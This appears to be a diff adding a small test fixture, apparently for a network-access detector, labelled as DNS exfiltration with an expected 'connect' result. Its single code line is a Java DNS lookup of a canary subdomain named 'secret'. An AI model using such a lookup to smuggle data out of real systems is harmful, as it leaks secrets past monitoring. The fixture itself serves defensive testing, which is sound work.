@@ -1,0 +1,4 @@
+// class: network
+// source: original (DNS exfiltration)
+// expect: connect
+InetAddress.getByName('secret.siteplan-canary.invalid')
